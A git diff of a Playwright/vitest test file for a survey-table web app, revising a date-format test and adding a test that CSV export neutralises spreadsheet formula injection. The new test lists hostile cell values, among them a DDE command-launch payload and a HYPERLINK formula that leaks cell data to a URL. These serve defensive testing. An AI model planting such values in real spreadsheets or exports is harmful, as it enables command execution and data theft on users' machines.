@@ -1,3 +1,6 @@
+import { readFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import { parse } from 'csv-parse/sync';
 import type { Browser, Page } from 'playwright-core';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { builtSite, launchBrowser, type WatchedPage, watchedPage } from '../support/site.js';
@@ -96,17 +99,13 @@ describe('tables as other programs write them', () => {
     expect(await told('unicode.txt', content)).toContain('12 answers.');
   });
 
-  it.each([
-    ['2026-03-31', '2026-03'],
-    ['31.3.2026', '2026-03'],
-    ['3/31/2026', '2026-03'],
-    ['31/03/2026', '2026-03'],
-  ])('with dates such as %s', async (date, period) => {
-    await told('dates.csv', `unit,date,nps\n${twelve(() => `a,${date},9`).join('\n')}`);
-    await page.getByLabel('Period').selectOption(period);
-    await page.waitForURL(`**p=${period}`);
-    await page.getByRole('link', { name: 'Overview', exact: true }).click();
-    expect(await seen(page.locator('.figure.answers'))).toContain('12');
+  it('with dates in three styles', async () => {
+    const table = (date: string) => `unit,date,nps\n${twelve(() => `a,${date},9`).join('\n')}`;
+    const styles = ['2026-03-31', '31.3.2026', '3/31/2026', '31/03/2026'];
+    await choose(...styles.map((date, index) => ({ name: `style-${index}.csv`, content: table(date) })));
+    await report().getByText('style-3.csv: 48 answers.').waitFor();
+    await page.getByLabel('Period').locator('option[value="2026-03"]').waitFor({ state: 'attached' });
+    expect(await page.getByLabel('Period').locator('optgroup[label=Months] option').count()).toBe(1);
   });
 
   it('with dates whose order nothing tells: it is said how they were read, and can be changed', async () => {
@@ -248,6 +247,41 @@ describe('a table whose columns nobody knows', () => {
     );
     expect(await seen(report())).toContain('Row 3 No unit is named; the row is left out.');
     expect(await seen(report())).toContain('Row 4 “x” is no number and is left out.');
+  });
+});
+
+describe('a table taken along', () => {
+  it('runs no formula, wherever it was hidden, and keeps negative numbers', async () => {
+    const hostile = [
+      ...[
+        '=1+2";=1+2',
+        "=cmd|' /C calc'!A0",
+        '+1+1',
+        '-2+3',
+        '@SUM(1)',
+        '\t=1',
+        '\r=1',
+        '\n=1',
+        'a,"=1',
+        ';=1',
+        '＝1+1',
+      ],
+      ...['=HYPERLINK("http://x?"&A1)', '"=1', " '=1", '\u200b=1'],
+    ];
+    const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`;
+    const rows = hostile.flatMap((unit) => twelve(() => `${quoted(unit)},0`));
+    await told('hostile.csv', `unit,nps\n${rows.join('\n')}`);
+    const downloading = page.waitForEvent('download');
+    await page.getByRole('button', { name: 'CSV', exact: true }).click();
+    const text = readFileSync(await (await downloading).path(), 'utf8');
+    const cells = (parse(text, { bom: true }) as string[][]).flat();
+    const asNumbers = cells.filter((cell) => /^-?\d/.test(cell)).map(Number);
+    expect(asNumbers).toContain(-100);
+    const risky = cells.filter(
+      (cell) => Number.isNaN(Number(cell)) && /^[\s\p{Cf}]*[=+\-@＝＋－＠]|^[\t\r\n]/u.test(cell),
+    );
+    expect(risky).toEqual([]);
+    for (const unit of ['+1+1', '@SUM(1)', '＝1+1']) expect(cells).toContain(`'${unit}`);
   });
 });
 
